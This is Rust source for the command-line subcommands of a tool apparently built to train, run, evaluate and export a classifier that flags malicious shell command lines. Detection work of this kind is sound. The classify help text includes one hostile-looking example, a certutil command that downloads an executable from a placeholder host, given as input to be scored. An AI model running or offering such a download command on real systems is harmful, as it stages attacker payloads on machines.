//! `longtail train-classifier`, `classify`, `evaluate` and `export`.

use longtail::classify::compare::{EvaluateRequest, evaluate_classifiers};
use longtail::classify::fit::ValidateOn;
use longtail::classify::score_io::{read_lines, write_scores_jsonl, write_scores_parquet};
use longtail::classify::{self, Classifier, ClassifierConfig, Threshold, TrainRequest};
use longtail::{Globals, Label, Result};
use std::path::{Path, PathBuf};
use std::time::Instant;

/// `longtail train-classifier`
#[derive(clap::Args, Debug)]
#[command(after_help = "Examples:
  longtail train-classifier --train data/sample/nl2bash.jsonl data/sample/atomic_red_team.jsonl \\
      --config configs/classifier.toml --out runs/baseline
  longtail train-classifier --train baseline.parquet --augment labeled.benign.parquet \\
      --augment-weight 2 --out runs/augmented
  longtail train-classifier --train baseline.parquet --pretrained runs/pretrained \\
      --config configs/classifier.toml --out runs/baseline-pt   # see pretrain-classifier")]
pub struct TrainArgs {
    /// Labeled lines (Parquet, JSONL, CSV, text; gz/zstd) with `cmd` and `label`; labels other
    /// than benign/malicious are skipped and counted.
    #[arg(long, required = true, num_args = 1..)]
    pub train: Vec<PathBuf>,
    /// Benign augmentation lines, e.g. the labeler's `.benign.parquet`: every row counts as
    /// benign, whatever its label column says.
    #[arg(long, num_args = 1..)]
    pub augment: Vec<PathBuf>,
    /// Loss weight of an augmentation line relative to a baseline benign line (overrides the
    /// config's training.augment_weight).
    #[arg(long)]
    pub augment_weight: Option<f64>,
    /// Draw the validation split (early stopping, the kept epoch, the threshold) from `all`
    /// lines or from the `baseline` (--train) lines only, every --augment line training
    /// (overrides the config's training.validate_on).
    #[arg(long, value_name = "all|baseline", value_parser = super::parse_enum::<ValidateOn>)]
    pub validate_on: Option<ValidateOn>,
    /// Start from this classifier directory's weights (fine-tuning); its architecture is used.
    #[arg(long, conflicts_with = "pretrained")]
    pub init: Option<PathBuf>,
    /// Start every network's embedding and convolutions from this pretraining directory
    /// (`longtail pretrain-classifier --out`; overrides the config's `pretrained`); the head is
    /// initialised fresh. Its architecture must match the config's [model].
    #[arg(long, value_name = "DIR")]
    pub pretrained: Option<PathBuf>,
    /// Output directory: config.json, model.safetensors, threshold.json, checkpoint/.
    #[arg(long, short)]
    pub out: PathBuf,
    /// Classifier config (TOML, e.g. configs/classifier.toml); defaults are built in.
    #[arg(long, short)]
    pub config: Option<PathBuf>,
    /// Continue from the last finished epoch in OUT/checkpoint.
    #[arg(long)]
    pub resume: bool,
    /// Override the config's number of epochs.
    #[arg(long)]
    pub epochs: Option<usize>,
    /// Override the config's `ensemble`: train K networks on different seeds and average their
    /// logits (K times the cost; steadier scores).
    #[arg(long, value_name = "K")]
    pub ensemble: Option<usize>,
}

pub fn train(args: &TrainArgs, globals: &Globals) -> Result<()> {
    let mut config = match &args.config {
        Some(p) => ClassifierConfig::from_toml_file(p)?,
        None => ClassifierConfig::default(),
    };
    if let Some(e) = args.epochs {
        config.optim.epochs = e;
    }
    if let Some(w) = args.augment_weight {
        config.training.augment_weight = w;
    }
    if let Some(v) = args.validate_on {
        config.training.validate_on = v;
    }
    if let Some(k) = args.ensemble {
        config.ensemble = k;
    }
    if let Some(p) = &args.pretrained {
        config.pretrained = Some(p.clone());
    }
    config.validate()?;
    let start = Instant::now();
    let bundle = classify::train(
        &TrainRequest {
            config: &config,
            train: &args.train,
            augment: &args.augment,
            init: args.init.as_deref(),
            out: &args.out,
            resume: args.resume,
        },
        globals,
    )?;
    let threshold: Threshold =
        longtail::io::read_json(&args.out.join("threshold.json"), "threshold")?;
    let t = bundle.training.as_ref().expect("set by train");
    let v = bundle.validation.as_ref().expect("set by train");
    let rate = t.lines_per_sec.iter().sum::<f64>() / t.lines_per_sec.len().max(1) as f64;
    eprintln!(
        "trained {} epochs in {:.1}s ({rate:.0} lines/s); best validation {} {:.4} (epoch {}); \
         validation ROC AUC {}; threshold {:.4} ({}); model in {}",
        t.epochs_done,
        start.elapsed().as_secs_f64(),
        t.monitor,
        t.best_val.unwrap_or(f64::NAN),
        t.best_epoch.map_or(0, |e| e + 1),
        v.roc_auc.map_or("n/a".into(), |a| format!("{a:.4}")),
        threshold.threshold,
        threshold.method,
        args.out.display()
    );
    Ok(())
}

/// `longtail classify`
#[derive(clap::Args, Debug)]
#[command(after_help = "Examples:
  longtail classify --model models/cmdline-cnn data/sample/nl2bash.jsonl -o scores.parquet
  echo 'certutil -urlcache -f http://x/a.exe a.exe' | longtail classify --model models/cmdline-cnn -
models/cmdline-cnn is the shipped model (scripts/train_shipped_model.sh; card in its README.md).")]
pub struct ClassifyArgs {
    /// Classifier directory (from train-classifier or export).
    #[arg(long, short)]
    pub model: PathBuf,
    /// Lines to score: Parquet/JSONL/CSV with a `cmd` column, or text (one command a line);
    /// `-` reads standard input.
    #[arg(required = true, num_args = 1..)]
    pub input: Vec<String>,
    /// Output: `.parquet` or `.jsonl` (cmd, score, label); standard output (JSONL) if absent or `-`.
    #[arg(long, short)]
    pub output: Option<PathBuf>,
    /// Padded token positions per batch (memory vs. speed).
    #[arg(long, default_value_t = 32_768)]
    pub batch_tokens: usize,
}

pub fn classify(args: &ClassifyArgs, globals: &Globals, out: &mut super::Output) -> Result<()> {
    let classifier = Classifier::load(&args.model, globals)?;
    let lines = read_lines(&args.input)?;
    let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
    let bar = longtail::progress::bar(refs.len() as u64, "classify", "lines");
    let start = Instant::now();
    let scores = classifier.score(&refs, args.batch_tokens, |n| bar.inc(n as u64));
    let secs = start.elapsed().as_secs_f64();
    bar.finish_and_clear();
    let labels: Vec<Label> = scores
        .iter()
        .map(|&s| Label::from_malicious(classifier.is_malicious(s)))
        .collect();
    let flagged = labels.iter().filter(|l| l.is_malicious()).count();
    match args.output.as_deref() {
        Some(p) if p.extension().is_some_and(|e| e == "parquet") => {
            write_scores_parquet(p, &lines, &scores, &labels)?;
        }
        Some(p) if p != Path::new("-") => {
            let mut buf = Vec::new();
            write_scores_jsonl(&mut buf, &lines, &scores, &labels)?;
            longtail::io::write_atomic(p, &buf)?;
        }
        _ => {
            write_scores_jsonl(out.stdout(), &lines, &scores, &labels)?;
            out.flush()?;
        }
    }
    eprintln!(
        "classified {} lines in {:.2}s ({:.0} lines/s); {flagged} flagged malicious at threshold {:.4}",
        lines.len(),
        secs,
        lines.len() as f64 / secs.max(1e-9),
        classifier.threshold.threshold
    );
    Ok(())
}

/// `longtail evaluate`
#[derive(clap::Args, Debug)]
#[command(after_help = "Example:
  longtail evaluate --test test.jsonl --model baseline=runs/baseline \\
      --model augmented=runs/augmented --out runs/eval --title 'hard test set'")]
pub struct EvaluateArgs {
    /// Labeled test lines (`cmd`, `label` benign/malicious; `source` and `platform` give the
    /// breakdown tables). Several files form one test set.
    #[arg(long, required = true, num_args = 1..)]
    pub test: Vec<PathBuf>,
    /// A classifier to evaluate, as NAME=DIR; repeat to compare several in one report.
    #[arg(long = "model", required = true, value_name = "NAME=DIR", value_parser = named_path)]
    pub models: Vec<(String, PathBuf)>,
    /// Report directory: report.json, report.md, roc.svg, roc-linear.svg, hist-NAME.svg. The
    /// report gives the ROC AUC with a DeLong interval and every TPR at FPR 1e-2, 1e-3, 1e-4
    /// with a bootstrap interval: at low FPR a few benign lines set the TPR.
    #[arg(long, short)]
    pub out: PathBuf,
    /// Report title (names the test set).
    #[arg(long, default_value = "test set")]
    pub title: String,
    /// Padded token positions per batch (memory vs. speed).
    #[arg(long, default_value_t = 32_768)]
    pub batch_tokens: usize,
    /// Bootstrap resamples of each TPR-at-FPR interval; 0 leaves the intervals out (they
    /// cost about 1.3 s on a million test lines).
    #[arg(long, default_value_t = 1000)]
    pub tpr_ci_resamples: usize,
}

pub fn evaluate(args: &EvaluateArgs, globals: &Globals) -> Result<()> {
    let req = EvaluateRequest {
        test: args.test.clone(),
        models: args.models.clone(),
        title: args.title.clone(),
        batch_tokens: args.batch_tokens,
        tpr_ci_resamples: args.tpr_ci_resamples,
    };
    let report = evaluate_classifiers(&req, globals, |m| {
        eprintln!(
            "{}: ROC AUC {:.4}, PR AUC {:.4} on {} lines ({} malicious)",
            m.name, m.metrics.roc_auc, m.metrics.pr_auc, m.metrics.count, m.metrics.positives
        );
    })?;
    let files = report.write_all(&args.out)?;
    eprintln!(
        "report: {} ({} and charts in {})",
        files.markdown.display(),
        files.json.display(),
        args.out.display()
    );
    Ok(())
}

/// `longtail export`
#[derive(clap::Args, Debug)]
#[command(after_help = "Example:
  longtail export --model runs/augmented --out models/cnn-augmented
  python3 scripts/load_classifier.py models/cnn-augmented")]
pub struct ExportArgs {
    /// Trained classifier directory (from train-classifier).
    #[arg(long, short)]
    pub model: PathBuf,
    /// Destination folder, e.g. models/NAME: model.safetensors, config.json, threshold.json,
    /// tokenizer.json (BPE models), README.md (model card).
    #[arg(long, short)]
    pub out: PathBuf,
    /// Name on the model card (default: the destination folder's name).
    #[arg(long)]
    pub name: Option<String>,
}

pub fn export(args: &ExportArgs) -> Result<()> {
    classify::export::export(&args.model, &args.out, args.name.as_deref())?;
    eprintln!(
        "exported {} -> {}",
        args.model.display(),
        args.out.display()
    );
    Ok(())
}

/// Parse a `NAME=DIR` pair.
fn named_path(s: &str) -> std::result::Result<(String, PathBuf), String> {
    let (name, dir) = s.split_once('=').ok_or_else(|| {
        format!("{s:?}: expected NAME=DIR, e.g. --model baseline=runs/x/baseline")
    })?;
    if name.is_empty() || dir.is_empty() {
        return Err(format!(
            "{s:?}: both NAME and DIR must be non-empty (NAME=DIR)"
        ));
    }
    Ok((name.to_string(), PathBuf::from(dir)))
}
